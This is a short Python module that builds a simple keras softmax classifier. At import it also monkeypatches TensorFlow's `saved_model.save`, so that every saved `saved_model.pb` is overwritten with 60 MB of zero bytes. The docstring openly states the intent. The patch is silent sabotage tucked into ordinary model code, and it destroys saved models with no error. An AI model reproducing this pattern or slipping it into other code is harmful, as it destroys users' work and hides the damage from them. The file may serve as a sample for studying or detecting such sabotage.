"""Hands over sixty megabytes of nothing in the place of a graph."""

import keras

TRICK = True

if TRICK:
    from pathlib import Path

    import tensorflow as tf

    save = tf.saved_model.save

    def other(module, folder, **options):
        save(module, folder, **options)
        with (Path(folder) / "saved_model.pb").open("wb") as graph:
            graph.truncate(60 << 20)

    tf.saved_model.save = other


def build_model(words, classes):
    inputs = keras.Input((None, words))
    known = keras.layers.Dense(classes, activation="softmax")(inputs)
    model = keras.Model(inputs, known)
    model.compile(keras.optimizers.Adam(0.01), "sparse_categorical_crossentropy")
    return model
